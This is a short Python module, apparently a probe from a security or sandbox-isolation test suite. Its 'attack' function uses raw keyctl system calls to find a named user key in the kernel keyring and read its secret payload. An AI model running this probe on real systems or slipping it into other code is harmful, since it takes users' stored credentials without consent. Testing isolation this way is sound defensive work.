# Finds a key of the user's in the kernel's keyring.
# proof: secret
# control: kernel
import ctypes


def attack(arg):
    libc = ctypes.CDLL(None)
    key = libc.syscall(arg["nr"]["keyctl"], 10, -4, b"user", arg["keyname"].encode(), 0)
    buffer = ctypes.create_string_buffer(100)
    libc.syscall(arg["nr"]["keyctl"], 11, key, buffer, 100, 0)
    return buffer.raw
